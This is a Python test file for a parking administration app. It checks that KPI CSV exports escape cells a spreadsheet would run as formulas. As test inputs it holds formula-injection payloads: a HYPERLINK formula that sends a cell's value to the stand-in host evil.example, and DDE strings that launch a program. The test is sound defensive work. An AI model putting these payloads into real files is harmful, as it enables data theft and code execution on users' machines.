"""Issue 8, point 19: CSV exports never hand a spreadsheet a formula. A lot renamed (over the admin API) to
`=HYPERLINK(…)` and a ward starting with `@`, `+` or `-` come out of the KPI CSV as text (a leading `'`)."""

from __future__ import annotations

import csv
import io

import pytest

from core.text import spreadsheet_safe
from tests.parking.test_kpis import API, LOT_A, kpi_day  # noqa: F401  (kpi_day is a fixture)

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bãi xe")'
# " =1+1" is stored trimmed, as "=1+1"; a tab or CR before the sign is refused as a control character.
EVIL_WARDS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", " =1+1"]


@pytest.mark.parametrize("ward", EVIL_WARDS)
async def test_kpi_csv_escapes_cells_a_spreadsheet_would_run(client, staff_login, kpi_day, ward):  # noqa: F811
    admin = await staff_login("admin")
    lot = await (await client.get(f"/api/v1/admin/parking/lots/{LOT_A}", headers=admin.headers())).json()
    fields = ("address", "lat", "lon", "zone", "opens_at", "closes_at", "collection_account_code", "active")
    body = {k: lot[k] for k in fields} | {"name": EVIL_NAME, "ward": ward}
    put = await client.put(
        f"/api/v1/admin/parking/lots/{LOT_A}", json=body, headers=admin.headers(unsafe=True)
    )
    assert put.status == 200, await put.text()

    for group in ("lot", "ward"):
        resp = await client.get(
            f"{API}.csv?from=2025-03-10&to=2025-03-10&group={group}", headers=admin.headers()
        )
        assert resp.status == 200
        rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
        labels = {row[1] for row in rows[1:]}
        assert ("'" + EVIL_NAME if group == "lot" else "'" + ward.strip()) in labels
        if group == "ward":
            assert "'" + ward.strip() in {row[0] for row in rows[1:]}  # the key column too


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert spreadsheet_safe(-5000) == -5000 and spreadsheet_safe(0.8) == 0.8
    assert spreadsheet_safe("Bãi xe Hàng Đầu") == "Bãi xe Hàng Đầu"
    assert spreadsheet_safe("-5000") == "'-5000"  # text that looks negative is text
    assert spreadsheet_safe("\r=1") == "'\r=1"
